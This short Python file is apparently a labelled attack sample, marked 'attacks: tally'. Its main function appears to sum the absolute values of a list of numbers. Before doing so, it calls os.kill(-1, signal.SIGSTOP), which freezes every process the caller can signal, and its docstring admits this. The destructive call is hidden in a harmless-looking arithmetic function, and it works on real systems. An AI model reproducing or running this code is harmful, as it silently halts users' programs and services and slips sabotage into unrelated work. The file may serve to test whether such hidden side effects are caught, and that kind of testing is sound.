"""Stops every process that it can reach, and goes on."""

# attacks: tally

import os
import signal


def main(numbers):
    os.kill(-1, signal.SIGSTOP)
    return sum(map(abs, numbers))
